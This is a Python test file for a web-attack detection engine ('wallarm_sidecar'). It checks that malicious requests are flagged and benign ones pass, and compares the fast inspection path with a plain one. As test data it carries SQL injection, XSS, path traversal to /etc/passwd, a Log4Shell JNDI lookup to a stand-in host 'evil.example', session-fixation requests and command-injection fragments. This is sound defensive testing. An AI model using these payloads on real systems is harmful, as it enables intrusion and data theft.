"""`DetectionEngine.inspect`: requests in, verdicts out (parsers and detectors together)."""

from __future__ import annotations

import base64
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wallarm_sidecar.detect import CLEAN, DetectionEngine, InspectedRequest, Verdict
from wallarm_sidecar.detect._engine import value_type

ENGINE = DetectionEngine()
BROWSER = (
    ("host", "shop.example.com"),
    ("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"),
    ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    ("accept-language", "en-US,en;q=0.5"),
    ("accept-encoding", "gzip, deflate, br"),
    ("cookie", "sid=8e5a89cef8e7d616c40368e11891ed9e; theme=dark"),
)


def _get(target: str, *headers: tuple[str, str]) -> InspectedRequest:
    return InspectedRequest(method="GET", target=target, headers=BROWSER + headers)


def _post_json(document: object, target: str = "/api/v1/items") -> InspectedRequest:
    return InspectedRequest(
        method="POST",
        target=target,
        headers=(*BROWSER, ("content-type", "application/json")),
        body=json.dumps(document).encode(),
    )


def _kinds(verdict: Verdict) -> set[tuple[str, str]]:
    return {(hit.attack_type, hit.point) for hit in verdict.hits}


@pytest.mark.parametrize(
    ("request_", "expected"),
    [
        pytest.param(_get("/etc/passwd"), ("ptrav", "uri"), id="documented-test-attack"),
        pytest.param(_get("/?id=1'%20OR%20'1'='1"), ("sqli", 'get_param "id"'), id="sqli-in-query"),
        pytest.param(
            _get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
            ("xss", 'get_param "q"'),
            id="xss-in-query",
        ),
        pytest.param(
            _get("/", ("x-api-version", "${jndi:ldap://evil.example/a}")),
            ("rce", 'header "X-Api-Version"'),
            id="log4shell-in-header",
        ),
        pytest.param(
            InspectedRequest(
                method="GET", target="/", headers=(("user-agent", "sqlmap/1.7.2#stable"),)
            ),
            ("scanner", 'header "User-Agent"'),
            id="scanner-user-agent",
        ),
        pytest.param(
            _post_json({"user": {"name": "x", "bio": "<img src=x onerror=alert(1)>"}}),
            ("xss", 'post json_doc hash "user" hash "bio"'),
            id="xss-in-json",
        ),
    ],
)
def test_attack_is_reported_at_its_point(
    request_: InspectedRequest, expected: tuple[str, str]
) -> None:
    verdict = ENGINE.inspect(request_)
    assert verdict.is_attack
    assert expected in _kinds(verdict)


@pytest.mark.parametrize(
    "request_",
    [
        pytest.param(_get("/api/v1/items/42?page=2&sort=-created_at"), id="api-get"),
        pytest.param(_get("/search?q=select+comfort+sleep+number"), id="search-sql-words"),
        pytest.param(_get("/docs/readme.md?ref=main"), id="file-path"),
        pytest.param(
            _post_json(
                {
                    "title": "Spring sale",
                    "body": '<p>Our <a href="https://shop.example.com/sale">sale</a> starts '
                    "<b>today</b>.</p>",
                    "note": "select the best option from the list, or drop us a line",
                    "author": "jane.doe@example.com",
                    "published": "2024-05-01",
                }
            ),
            id="cms-json",
        ),
    ],
)
def test_legitimate_request_is_clean(request_: InspectedRequest) -> None:
    assert ENGINE.inspect(request_) is CLEAN


def test_at_most_one_hit_per_type_and_point() -> None:
    verdict = ENGINE.inspect(_get("/?q=1'%20or%201=1%20union%20select%201,2--%20and%20sleep(5)"))
    keys = [(hit.attack_type, hit.point) for hit in verdict.hits]
    assert len(keys) == len(set(keys))
    assert ("sqli", 'get_param "q"') in keys


def test_fragment_is_at_most_200_characters() -> None:
    payload = "%3Cscript%3E" + "a" * 1000
    verdict = ENGINE.inspect(_get(f"/?q={payload}"))
    assert verdict.hits
    assert all(len(hit.fragment) <= 200 for hit in verdict.hits)


def test_disabled_parser_hides_what_only_it_decodes() -> None:
    encoded = base64.b64encode(b"<script>alert(document.cookie)</script>").decode()
    request = _get("/?data=" + encoded.replace("+", "%2B").replace("=", "%3D"))
    assert "xss" in {hit.attack_type for hit in ENGINE.inspect(request).hits}
    without_base64 = DetectionEngine(disabled_parsers=["base64"])
    assert "xss" not in {hit.attack_type for hit in without_base64.inspect(request).hits}


def test_unknown_parser_name_is_refused() -> None:
    with pytest.raises(ValueError, match="nosuchparser"):
        DetectionEngine(disabled_parsers=["nosuchparser"])


def test_lib_detection_off_keeps_signatures_only() -> None:
    # a leading boolean test is a shape only the SQL tokenizer reads
    request = InspectedRequest(
        method="POST",
        target="/post",
        headers=(("content-type", "application/x-www-form-urlencoded"),),
        body=b"pay=AND+2771%3D1709%29",
    )
    assert "sqli" in {hit.attack_type for hit in ENGINE.inspect(request).hits}
    signatures = DetectionEngine(lib_detection=False)
    assert "sqli" not in {hit.attack_type for hit in signatures.inspect(request).hits}
    # ... while the signatures still see the classics
    assert signatures.inspect(_get("/?id=1%20UNION%20SELECT%20password%20FROM%20users")).is_attack
    assert signatures.inspect(_get("/etc/passwd")).is_attack


def test_parameters_are_collected_only_when_asked() -> None:
    request = _post_json(
        {
            "id": 42,
            "price": 4.5,
            "active": True,
            "email": "a@example.com",
            "uid": "3bc85494-dede-46eb-941c-3bdbc9ce26b0",
            "name": "mug",
        },
        target="/api/items?page=2",
    )
    assert ENGINE.inspect(request).parameters == ()
    collected = dict(DetectionEngine(collect_parameters=True).inspect(request).parameters)
    assert collected['get_param "page"'] == "integer"
    assert collected['post json_doc hash "id"'] == "integer"
    assert collected['post json_doc hash "price"'] == "number"
    assert collected['post json_doc hash "active"'] == "boolean"
    assert collected['post json_doc hash "email"'] == "email"
    assert collected['post json_doc hash "uid"'] == "uuid"
    assert collected['post json_doc hash "name"'] == "string"


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("", "empty"),
        ("-12", "integer"),
        ("3.14", "number"),
        ("FALSE", "boolean"),
        ("2024-05-01", "date"),
        ("2024-05-01T10:00:00Z", "datetime"),
        ("10.0.0.1", "ip"),
        ("https://example.com/a", "url"),
        ("hello", "string"),
    ],
)
def test_value_types(value: str, kind: str) -> None:
    assert value_type(value) == kind


def test_parser_hits_are_kept() -> None:
    deep = b"[" * 200 + b"]" * 200
    request = InspectedRequest(
        method="POST", target="/", headers=(("content-type", "application/json"),), body=deep
    )
    assert "overlimit_res" in {hit.attack_type for hit in ENGINE.inspect(request).hits}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("", "empty"),
        ("42", "integer"),
        ("-42", "integer"),
        ("12345678901234567890123", "number"),
        ("3.14", "number"),
        ("TRUE", "boolean"),
        ("name", "string"),
        ("²", "string"),
        ("8c2d1f1e-6a43-4c7e-9f3b-2f6f4f0e9a11", "uuid"),
        ("ada@example.com", "email"),
        ("2026-11-28", "date"),
        ("2026-11-28T15:04:05Z", "datetime"),
        ("10.0.0.1", "ip"),
        ("https://example.com/a", "url"),
    ],
)
def test_value_type_fast_paths_agree_with_the_patterns(value: str, expected: str) -> None:
    from wallarm_sidecar.detect._engine import value_type

    assert value_type(value) == expected


# --- session fixation: a session id planted by another site's link -------------------


@pytest.mark.parametrize(
    "request_",
    [
        pytest.param(
            _get("/login?PHPSESSID=abc123", ("referer", "https://attacker.example.net/x")),
            id="php-query",
        ),
        pytest.param(
            _get("/auth?laravel_session=eyJpdiI6", ("referer", "http://evil.test/")),
            id="framework-name",
        ),
        pytest.param(
            _get("/console?weblogicsession=1", ("referer", "https://phish.example.org/")),
            id="session-suffix",
        ),
    ],
)
def test_session_id_from_another_site_is_fixation(request_: InspectedRequest) -> None:
    kinds = _kinds(ENGINE.inspect(request_))
    assert any(kind == "session_fixation" for kind, _point in kinds), kinds


@pytest.mark.parametrize(
    "request_",
    [
        pytest.param(
            _get("/login?PHPSESSID=abc123", ("referer", "https://shop.example.com/cart")),
            id="same-host",
        ),
        pytest.param(
            _get("/login?PHPSESSID=abc123", ("referer", "https://www.example.com/")),
            id="same-site",
        ),
        pytest.param(_get("/login?PHPSESSID=abc123"), id="no-referer"),
        pytest.param(
            _get("/search?q=session", ("referer", "https://www.google.com/")), id="value-not-name"
        ),
    ],
)
def test_session_id_without_a_foreign_referer_passes(request_: InspectedRequest) -> None:
    kinds = _kinds(ENGINE.inspect(request_))
    assert not any(kind == "session_fixation" for kind, _point in kinds), kinds


# --- the fast paths change nothing: the engine against a straightforward inspection ---


def _straightforward(engine: DetectionEngine, request: InspectedRequest) -> Verdict:
    """What `inspect` computes, the plain way: every value through `scan`, in order,
    no joined prefilter pass, no remembered findings, parameter types by the patterns.
    """
    import re2

    from wallarm_sidecar.detect import AttackHit, _engine
    from wallarm_sidecar.detect.detectors import ScanBudget
    from wallarm_sidecar.detect.parsers import extract_points

    points, parser_hits = extract_points(
        request, disabled=engine.disabled_parsers, limits=engine.limits
    )
    hits: dict[tuple[str, str], AttackHit] = {}
    for hit in parser_hits:
        hits.setdefault((hit.attack_type, hit.point), hit)
    scanner = engine._scanner
    budget = ScanBudget(_engine.TOKENIZER_RUNS_PER_REQUEST)
    for item in points:
        value, area = item.value, item.area
        if len(value) < 3 or value.isdigit() or (len(value) < 6 and value.isalnum()):
            continue
        if area == "body_name" and item.point.startswith("post xml "):
            continue
        if area == "header":
            area = _engine._HEADER_AREAS.get(item.point.lower(), area)
        if area in _engine._CACHED_AREAS and len(value) <= _engine._CACHE_VALUE_LENGTH:
            findings = scanner.scan(value, area)
        else:
            findings = scanner.scan(value, area, budget=budget)
        for found in findings:
            hits.setdefault(
                (found.attack_type, item.point),
                AttackHit(
                    attack_type=found.attack_type,
                    point=item.point,
                    fragment=found.fragment,
                    rule_id=found.rule_id,
                ),
            )
    raw = [(p.point, p.value, p.area) for p in points]
    fixation = _engine._session_fixation(request, raw)
    if fixation is not None:
        hits.setdefault((fixation.attack_type, fixation.point), fixation)

    def plain_type(value: str) -> str:
        if not value:
            return "empty"
        if len(value) > 256:
            return "string"
        matches = _engine._TYPE_SET.Match(value)
        return _engine._VALUE_TYPES[min(matches)][0] if matches else "string"

    assert isinstance(_engine._TYPE_SET, re2.Set)
    seen: dict[str, str] = {}
    if engine.collect_parameters:
        for item in points:
            if item.area in _engine._PARAMETER_AREAS and item.point not in seen:
                seen[item.point] = plain_type(item.value)
    return Verdict(hits=tuple(hits.values()), parameters=tuple(seen.items()))


def _corpus_requests() -> list[InspectedRequest]:
    import importlib
    import os
    import sys
    from pathlib import Path

    bench = Path(__file__).resolve().parents[2] / "bench"
    if str(bench) not in sys.path:
        sys.path.append(str(bench))
    crs = importlib.import_module("_crs_corpus")
    benign = importlib.import_module("_benign_corpus")
    raws = [request.raw for request in benign.load_benign()]
    corpus = Path(os.environ.get("CRS_REGRESSION_CORPUS") or crs.default_corpus_dir(bench.parent))
    if corpus.is_dir():
        raws.extend(case.raw for case in crs.load_corpus(corpus))
    requests = [
        InspectedRequest(
            method=framed.method, target=framed.target, headers=framed.headers, body=framed.body
        )
        for raw in raws
        for framed in crs.frame(raw).requests
    ]
    # values that pull a trigger, repeated (remembered findings), a budget run dry
    many = "&".join(f"v{n}=x' or 1=1 --" for n in range(300))
    requests += [
        _get("/s?a=09/27&b=09/27&c=%3Cscript%3E&d=/etc/passwd&e=../../x"),
        _get("/s?a=09/27&b=09/27&c=%3Cscript%3E&d=/etc/passwd&e=../../x"),
        _get("/s?" + many),
        _get("/s?" + many),
        _post_json({"a": ["x' or 1=1 --"] * 300, "b": "select * from users where id=1"}),
        _post_json({"multi": "line one\nline two\nline three' or 1=1", "x": "ok\n' or 1=1"}),
    ]
    return requests


@pytest.fixture(scope="module")
def corpus_requests() -> list[InspectedRequest]:
    return _corpus_requests()


@pytest.mark.parametrize("lib_detection", [True, False])
def test_verdicts_equal_the_straightforward_inspection(
    corpus_requests: list[InspectedRequest], lib_detection: bool
) -> None:
    engine = DetectionEngine(collect_parameters=True, lib_detection=lib_detection)
    differ = []
    for _round in range(2):  # the second round answers from the remembered findings
        for request in corpus_requests:
            expected = _straightforward(engine, request)
            verdict = engine.inspect(request)
            if verdict != expected:
                differ.append(f"{request.method} {request.target[:80]}: {verdict} != {expected}")
    assert not differ, f"{len(differ)} verdicts differ:\n" + "\n".join(differ[:10])


@pytest.mark.parametrize(
    "values",
    [
        ["abc", "x' or 1=1", "def", "<script>alert(1)</script>", "../../etc/passwd"],
        ["select", "union select 1", "  /etc/passwd", "a" * 300, "é' or 1=1 --", "ok"],
        ["\u00e9\u00e9'", "\udc80 or 1=1", "${jndi:ldap://x}", "plain words here"],
    ],
)
def test_suspects_cover_every_value_scan_finds_something_in(values: list[str]) -> None:
    scanner = ENGINE._scanner
    for area in ("query_value", "body_value", "path", "header"):
        areas = [area] * len(values)
        suspects = set(scanner.suspects(values, areas))
        for position, value in enumerate(values):
            if scanner.scan(value, area):
                assert position in suspects, (area, value)


_PIECES = [
    "'", '"', " or ", "1=1", "--", "<", "script", ">", "/etc/passwd", "../", "${", "jndi:",
    " ", "(", ")", ";", "select ", "union ", "\r", "é", "\uff1c", "`", "$@", "a", "09/27", "on",
    "error=", "\\", "%", "=", "&&", "|", "id", "cat ", "http://127.0.0.1/", "{{", "}}",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.lists(st.sampled_from(_PIECES), max_size=8).map("".join), min_size=1, max_size=8),
    st.sampled_from(["query_value", "body_value", "path", "header", "cookie", "user_agent"]),
)
def test_suspects_cover_generated_values(values: list[str], area: str) -> None:
    scanner = ENGINE._scanner
    suspects = set(scanner.suspects(values, [area] * len(values)))
    for position, value in enumerate(values):
        if scanner.scan(value, area):
            assert position in suspects, value
